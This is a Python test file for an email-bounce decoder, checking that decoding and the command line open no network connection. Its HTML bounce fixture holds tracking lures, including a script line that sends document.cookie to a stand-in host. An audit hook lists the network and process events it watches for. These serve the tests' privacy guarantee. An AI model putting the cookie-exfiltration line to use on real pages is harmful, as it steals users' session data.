"""Decoding and the command line never open a network connection (nor look a name up),
whatever the message links to: bounces are private, and the app promises to work offline.

In this process the socket functions are replaced by ones that fail the test; in a child
process (``python -m smtphelper.cli``) an audit hook ends the process on any network event.
The window's part of this promise is tested with the window (tests/gui).
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import textwrap
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest

from smtphelper.cli import main
from smtphelper.core.advice import advice_text
from smtphelper.core.decode import decode
from smtphelper.core.i18n import no_translation
from smtphelper.core.tsreader import translator_for
from smtphelper.core.wording import render_summary

ROOT = Path(__file__).resolve().parent.parent
SAMPLES = sorted(p for p in (ROOT / "tests" / "core" / "samples").iterdir() if p.is_file())
NETWORK_EXIT = 97

HTML_BOUNCE = """\
From: Microsoft Outlook <postmaster@outlook.example>
To: anna@example.com
Subject: Undeliverable: Invoice
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head>
<link rel="stylesheet" href="https://tracker.example/style.css">
<link rel="preconnect" href="//tracker.example"><link rel="dns-prefetch" href="//x.test">
<meta http-equiv="refresh" content="0; url=https://tracker.example/refresh">
<style>@import url(http://tracker.example/a.css); p { background: url(//x.test/bg.png) }</style>
<script src="https://tracker.example/a.js"></script>
<script>new Image().src = "https://tracker.example/?c=" + document.cookie</script>
</head><body>
<img src="https://tracker.example/pixel.gif"><img src="cid:logo@x" srcset="http://x.test/2x 2x">
<p>Your message to <a href="mailto:bob@example.net">bob@example.net</a> couldn't be delivered.
Check the address at <a href="https://support.example/help">https://support.example/help</a>
or http://bit.example/xyz and www.example.net.</p>
<p>Remote server returned '550 5.1.1 RESOLVER.ADR.RecipNotFound; not found'</p>
<iframe src="https://tracker.example/frame"></iframe><video poster="http://x.test/p.jpg">
</body></html>
"""

# Audit events of network use (and of starting another program, which could fetch for it).
AUDIT_HOOK = textwrap.dedent(f"""
    import os
    import sys

    WATCHED = {{
        "socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "socket.gethostbyaddr",
        "socket.getnameinfo", "socket.sendto", "socket.sendmsg", "urllib.Request",
        "http.client.connect", "http.client.send", "webbrowser.open", "ftplib.connect",
        "smtplib.connect", "poplib.connect", "imaplib.open", "nntplib.connect",
        "telnetlib.Telnet.open", "subprocess.Popen", "os.system", "os.posix_spawn", "os.exec",
        "os.startfile",
    }}


    def refuse_network(event, args):
        if event in WATCHED:
            os.write(2, f"network event: {{event}} {{args!r}}\\n".encode("utf-8", "replace"))
            os._exit({NETWORK_EXIT})


    sys.addaudithook(refuse_network)
""")


class NetworkUsed(AssertionError):
    """Raised by the replaced socket functions."""


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    attempts: list[str] = []

    def refuse(name: str):  # noqa: ANN202
        def guard(*args: object, **kwargs: object) -> None:
            attempts.append(name)
            raise NetworkUsed(f"{name} called with {args!r}")
        return guard

    for name in ("connect", "connect_ex", "sendto", "sendmsg"):
        monkeypatch.setattr(socket.socket, name, refuse(f"socket.socket.{name}"))
    for name in ("create_connection", "getaddrinfo", "gethostbyname", "gethostbyname_ex",
                 "gethostbyaddr", "getnameinfo"):
        monkeypatch.setattr(socket, name, refuse(f"socket.{name}"))
    monkeypatch.setattr(urllib.request, "urlopen", refuse("urllib.request.urlopen"))
    yield attempts
    # Also when something caught the error and carried on.
    assert attempts == [], f"network used: {attempts}"


def test_the_guard_refuses_connections(no_network: list[str]) -> None:
    with pytest.raises(NetworkUsed):
        socket.getaddrinfo("example.com", 80)
    with pytest.raises(NetworkUsed):
        socket.create_connection(("192.0.2.1", 25), timeout=0.1)
    with socket.socket() as sock, pytest.raises(NetworkUsed):
        sock.connect(("192.0.2.1", 25))
    assert len(no_network) == 3
    no_network.clear()


@pytest.mark.parametrize("path", SAMPLES, ids=lambda p: p.name)
def test_decoding_the_samples_opens_no_connection(no_network: list[str], path: Path) -> None:
    data = path.read_bytes()
    for tr in (no_translation, translator_for("cs")):
        for given in (data, data.decode("utf-8", "replace")):
            report = decode(given, source=path.name, tr=tr)
            render_summary(report, tr)
            for recipient in report.recipients:
                advice_text(report, recipient, tr)


def test_html_bounce_with_remote_content_opens_no_connection(no_network: list[str]) -> None:
    report = decode(HTML_BOUNCE.encode("utf-8"))
    assert report.kind == "bounce"
    assert [r.address for r in report.recipients] == ["bob@example.net"]
    render_summary(report, no_translation)
    advice_text(report, report.recipients[0], no_translation)


def test_command_line_opens_no_connection(no_network: list[str], tmp_path: Path,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    html = tmp_path / "html_bounce.eml"
    html.write_text(HTML_BOUNCE, encoding="utf-8")
    files = [*map(str, SAMPLES), str(html)]
    assert main(["decode", "--json", "--advice", *files]) == 0
    assert len(capsys.readouterr().out.splitlines()) == len(files)
    assert main(["decode", "--advice", "--lang", "cs", *files]) == 0
    assert "bob@example.net" in capsys.readouterr().out


def _run_with_audit_hook(tmp_path: Path, args: list[str],
                         stdin: str = "") -> subprocess.CompletedProcess[str]:
    (tmp_path / "sitecustomize.py").write_text(AUDIT_HOOK, encoding="utf-8")
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(tmp_path), str(ROOT)]),
           "PYTHONIOENCODING": "utf-8"}
    return subprocess.run([sys.executable, *args], input=stdin, capture_output=True,
                          text=True, encoding="utf-8", env=env, cwd=tmp_path, timeout=120)


def test_the_audit_hook_ends_a_process_that_uses_the_network(tmp_path: Path) -> None:
    # Without this the next test could pass because the hook was never installed.
    done = _run_with_audit_hook(tmp_path, ["-c", "import socket; socket.getaddrinfo('a.b', 1)"])
    assert done.returncode == NETWORK_EXIT
    assert "socket.getaddrinfo" in done.stderr


def test_command_line_process_opens_no_connection(tmp_path: Path) -> None:
    html = tmp_path / "html_bounce.eml"
    html.write_text(HTML_BOUNCE, encoding="utf-8")
    files = [*map(str, SAMPLES), str(html), "-"]
    done = _run_with_audit_hook(
        tmp_path, ["-m", "smtphelper.cli", "decode", "--json", "--advice", *files],
        stdin=HTML_BOUNCE)
    assert done.returncode == 0, done.stderr[-2000:]
    lines = done.stdout.splitlines()
    assert len(lines) == len(files)
    assert json.loads(lines[-1])["recipients"][0]["address"] == "bob@example.net"
    done = _run_with_audit_hook(
        tmp_path, ["-m", "smtphelper.cli", "decode", "--advice", "--lang", "cs", *files[:-1]])
    assert done.returncode == 0, done.stderr[-2000:]
